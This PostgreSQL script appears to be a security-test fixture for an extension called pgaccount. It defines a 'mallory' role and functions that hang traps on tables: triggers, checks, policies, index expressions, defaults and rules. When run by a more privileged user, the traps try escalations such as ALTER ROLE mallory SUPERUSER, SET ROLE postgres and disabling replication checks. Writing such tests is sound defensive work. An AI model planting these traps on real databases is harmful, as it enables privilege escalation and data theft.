-- Traps to hang on tables, by mallory.plant. A trap notes whoever runs it and is not the table's owner, a
-- search_path that is not that owner's, and tries what it can while it runs.
--
-- By a superuser, with the library there. Every owner has a schema of its own name, and "that, public" for its
-- search_path: mallory by its setting in the database, others by the default.
-- attack.named: the table that a plain statement names, whose traps are the caller's to run, as in PostgreSQL
-- without the extension. attack.caller: who calls, where it is not the session's user.
SET client_min_messages = warning;
SELECT 'CREATE ROLE mallory LOGIN' WHERE NOT EXISTS (SELECT FROM pg_roles WHERE rolname = 'mallory') \gexec
SELECT format('ALTER ROLE mallory IN DATABASE %I SET search_path = mallory, public', current_database()) \gexec
CREATE SCHEMA mallory AUTHORIZATION mallory;
GRANT USAGE ON SCHEMA mallory TO PUBLIC;
SET SESSION AUTHORIZATION mallory;

CREATE TABLE mallory.key_of ();
CREATE FUNCTION mallory.note(kind text, relation text) RETURNS void LANGUAGE plpgsql AS $$
BEGIN
    RAISE LOG 'CAUGHT kind=% table=% as=% session=% step=%', kind, relation, current_user, session_user,
        pg_catalog.current_setting('attack.step', true);
END $$;

-- In expressions; of a value, so that it is evaluated for each row, or of none, at planning.
CREATE FUNCTION mallory.caught(kind text, relation text, value text DEFAULT NULL) RETURNS boolean LANGUAGE plpgsql IMMUTABLE AS $$
DECLARE
    named text := pg_catalog.current_setting('attack.named', true);
    plain boolean := COALESCE(named, '') OPERATOR(pg_catalog.<>) '';
    caller pg_catalog.name := COALESCE(pg_catalog.current_setting('attack.caller', true), session_user);
    owner pg_catalog.name := pg_catalog.pg_get_userbyid((SELECT relowner FROM pg_catalog.pg_class WHERE oid OPERATOR(pg_catalog.=) pg_catalog.to_regclass(relation)::pg_catalog.oid));
    path pg_catalog.name[];
BEGIN
    -- the caller's own statement, partitions and children of the table too, and constraint triggers that can be
    -- deferred: in what follows a statement they are as in the server's own cascades
    IF plain AND (kind OPERATOR(pg_catalog.~) '^deferr'
            OR current_user OPERATOR(pg_catalog.=) caller AND (relation OPERATOR(pg_catalog.=) named
                -- a table that it reads
                OR kind OPERATOR(pg_catalog.~) '^constant' AND pg_catalog.strpos(pg_catalog.current_query(), pg_catalog.replace(relation, '_child', '')) OPERATOR(pg_catalog.>) 0 OR kind OPERATOR(pg_catalog.=) 'domain of keys'
                OR EXISTS (SELECT FROM pg_catalog.pg_inherits WHERE inhrelid OPERATOR(pg_catalog.=) pg_catalog.to_regclass(relation)::pg_catalog.oid
                    AND inhparent OPERATOR(pg_catalog.=) pg_catalog.to_regclass(named)::pg_catalog.oid)))
    THEN
        RETURN true;
    END IF;
    -- the extension's own tables are read by the queries of doctor, and by whoever asks them
    IF kind OPERATOR(pg_catalog.~) '^constant' AND relation OPERATOR(pg_catalog.~) '^account\.'
        AND pg_catalog.current_query() OPERATOR(pg_catalog.~) 'account\.(doctor|event)\M'
    THEN
        RETURN true;
    END IF;
    -- what the caller may see and change is judged as the caller
    IF kind OPERATOR(pg_catalog.=) 'policy' AND current_user OPERATOR(pg_catalog.=) caller THEN
        RETURN true;
    END IF;
    IF current_user OPERATOR(pg_catalog.<>) owner THEN
        PERFORM mallory.note(kind, relation);
        IF NOT plain THEN
            PERFORM mallory.try();
        END IF;
    -- a search_path that a trap has set is its own doing; the server's own statements (checks of foreign keys, the look
    -- at a table before an index is built) are planned under the path of whoever acts
    ELSIF kind OPERATOR(pg_catalog.!~) '^constant' AND caller OPERATOR(pg_catalog.<>) owner AND pg_catalog.current_setting('search_path') OPERATOR(pg_catalog.!~) '^mallory_left' THEN
        path := pg_catalog.current_schemas(true);
        IF path[1] OPERATOR(pg_catalog.~~) 'pg_temp%' OR ARRAY(SELECT s FROM pg_catalog.unnest(path) s WHERE s OPERATOR(pg_catalog.!~) '^pg_')
            OPERATOR(pg_catalog.<>) ARRAY[owner, 'public']::pg_catalog.name[]
        THEN
            PERFORM mallory.note('search_path ' OPERATOR(pg_catalog.||) pg_catalog.current_setting('search_path') OPERATOR(pg_catalog.||) ' of ' OPERATOR(pg_catalog.||) kind, relation);
        END IF;
    END IF;
    RETURN true;
END $$;
CREATE FUNCTION mallory.caught_text(kind text, relation text, value text DEFAULT NULL) RETURNS text LANGUAGE plpgsql IMMUTABLE AS $$
BEGIN PERFORM mallory.caught(kind, relation, value); RETURN kind; END $$;

-- Of keys: the value names no table, so in a plain statement it is the caller's.
CREATE DOMAIN mallory.key AS bigint CHECK (mallory.caught('domain of keys', 'mallory.key_of', VALUE::text));

-- What would outlive the call, or give the caller's rights.
CREATE FUNCTION mallory.try() RETURNS void LANGUAGE plpgsql AS $$
DECLARE
    s text;
BEGIN
    FOREACH s IN ARRAY ARRAY['ALTER ROLE mallory SUPERUSER', 'GRANT pg_read_all_data TO mallory',
        'SET search_path = mallory_left, pg_catalog', 'SET work_mem = 7777', 'SET pgaccount.show_deleted = on', 'SET attack.left = behind',
        'SET default_transaction_read_only = on', 'SET session_replication_role = replica', 'SET pgaccount.live_check = off', 'SET pgaccount.grace_period = 0',
        'RESET ROLE', 'SET ROLE postgres', 'SET SESSION AUTHORIZATION postgres', 'RESET SESSION AUTHORIZATION',
        'CREATE TEMP TABLE left_table (a int)', 'CREATE TEMP VIEW pg_roles AS SELECT 1 AS left_view',
        'CREATE FUNCTION pg_temp.left_function() RETURNS int LANGUAGE sql AS ''SELECT 1''',
        'PREPARE left_statement AS SELECT current_user', 'LISTEN left_channel', 'DECLARE left_cursor CURSOR WITH HOLD FOR SELECT current_user',
        'SET CONSTRAINTS ALL DEFERRED']
    LOOP
        BEGIN
            EXECUTE s;
        EXCEPTION WHEN OTHERS THEN NULL;
        END;
    END LOOP;
END $$;

CREATE FUNCTION mallory.trap() RETURNS trigger LANGUAGE plpgsql AS $$
BEGIN
    PERFORM mallory.caught(TG_ARGV[0] OPERATOR(pg_catalog.||) ' ' OPERATOR(pg_catalog.||) TG_OP, TG_ARGV[1], '');
    IF TG_ARGV[2] OPERATOR(pg_catalog.=) 'try' AND current_user OPERATOR(pg_catalog.<>) COALESCE(pg_catalog.current_setting('attack.caller', true), session_user)
        AND NOT (TG_ARGV[0] OPERATOR(pg_catalog.~) '^deferr' AND COALESCE(pg_catalog.current_setting('attack.named', true), '') OPERATOR(pg_catalog.<>) '')
    THEN
        PERFORM mallory.try();
        IF pg_catalog.current_setting('attack.fail', true) OPERATOR(pg_catalog.=) 'on' THEN
            RAISE EXCEPTION 'a trap that fails';
        END IF;
    END IF;
    IF TG_OP OPERATOR(pg_catalog.=) 'DELETE' THEN RETURN OLD; END IF;
    RETURN NEW;
END $$;

-- Hang every trap on a table that has a column "id" or the given one (NULL: none that an index would take).
CREATE FUNCTION mallory.plant(relation regclass, key name DEFAULT 'id', columns boolean DEFAULT true) RETURNS void LANGUAGE plpgsql AS $plant$
DECLARE
    name text := (SELECT nspname || '.' || relname FROM pg_class c JOIN pg_namespace n ON n.oid = relnamespace WHERE c.oid = relation);
    sql text;
BEGIN
    FOREACH sql IN ARRAY ARRAY[
        'CREATE TRIGGER b_trap BEFORE INSERT OR UPDATE OR DELETE ON %1$s FOR EACH ROW WHEN (mallory.caught(''when clause'', %2$L)) EXECUTE FUNCTION mallory.trap(''before row'', %2$L)',
        'CREATE TRIGGER a_trap AFTER INSERT OR UPDATE OR DELETE ON %1$s FOR EACH ROW EXECUTE FUNCTION mallory.trap(''after row'', %2$L, ''try'')',
        'CREATE TRIGGER bs_trap BEFORE INSERT OR UPDATE OR DELETE OR TRUNCATE ON %1$s FOR EACH STATEMENT EXECUTE FUNCTION mallory.trap(''before statement'', %2$L)',
        'CREATE TRIGGER as_trap AFTER INSERT OR UPDATE OR DELETE OR TRUNCATE ON %1$s FOR EACH STATEMENT EXECUTE FUNCTION mallory.trap(''after statement'', %2$L)',
        'CREATE CONSTRAINT TRIGGER d_trap AFTER INSERT OR UPDATE OR DELETE ON %1$s DEFERRABLE INITIALLY DEFERRED FOR EACH ROW WHEN (mallory.caught(''deferred when clause'', %2$L)) EXECUTE FUNCTION mallory.trap(''deferred trigger'', %2$L, ''try'')',
        'CREATE CONSTRAINT TRIGGER i_trap AFTER INSERT OR UPDATE OR DELETE ON %1$s DEFERRABLE INITIALLY IMMEDIATE FOR EACH ROW EXECUTE FUNCTION mallory.trap(''deferrable trigger'', %2$L)',
        'ALTER TABLE %1$s ADD CONSTRAINT trap CHECK (mallory.caught(''check'', %2$L, (%3$I)::text))',
        'CREATE POLICY trap ON %1$s USING (mallory.caught(''policy'', %2$L)) WITH CHECK (mallory.caught(''policy'', %2$L))',
        'CREATE INDEX ON %1$s ((mallory.caught(''index expression'', %2$L, (%3$I)::text))) WHERE mallory.caught(''index predicate'', %2$L, (%3$I)::text)',
        -- of constants: evaluated by whoever looks first
        'CREATE INDEX ON %1$s ((mallory.caught_text(''constant in an index'', %2$L) || (%3$I)::text)) WHERE mallory.caught(''constant index predicate'', %2$L)',
        'ALTER TABLE %1$s ADD CONSTRAINT constant_trap CHECK (mallory.caught(''constant check'', %2$L))',
        'CREATE STATISTICS %4$s ON (mallory.caught_text(''constant in statistics'', %2$L) || (%3$I)::text) FROM %1$s']
    LOOP
        CONTINUE WHEN key IS NULL AND sql ~ '%3';
        EXECUTE format(sql, relation, name, key, name || '_constants');
    END LOOP;
    -- a partition has the columns, and the policies, of its parent
    IF columns THEN
        EXECUTE format('CREATE DOMAIN %s_domain AS text CHECK (mallory.caught(''domain'', %L, VALUE))', name, name);
        EXECUTE format('ALTER TABLE %1$s ADD trap_default text DEFAULT mallory.caught_text(''default'', %2$L), ADD trap_domain %2$s_domain DEFAULT ''x'', '
            || 'ADD trap_generated text GENERATED ALWAYS AS (mallory.caught_text(''generated column'', %2$L, (%3$I)::text)) STORED, '
            || 'ADD trap_constant text DEFAULT mallory.caught_text(''constant default'', %2$L), ADD trap_constant_generated text GENERATED ALWAYS AS (mallory.caught_text(''constant in a generated column'', %2$L) || (%3$I)::text) STORED', relation, name, key);
    END IF;
END $plant$;

-- A rule besides: not where a statement of ours with data-modifying WITH would be refused for it.
CREATE FUNCTION mallory.plant_rule(relation regclass) RETURNS void LANGUAGE plpgsql AS $$
BEGIN
    EXECUTE format('CREATE RULE trap AS ON UPDATE TO %s DO ALSO SELECT mallory.caught(''rule'', %L)', relation,
        (SELECT nspname || '.' || relname FROM pg_class c JOIN pg_namespace n ON n.oid = relnamespace WHERE c.oid = relation));
END $$;
GRANT EXECUTE ON ALL FUNCTIONS IN SCHEMA mallory TO PUBLIC;
RESET SESSION AUTHORIZATION;
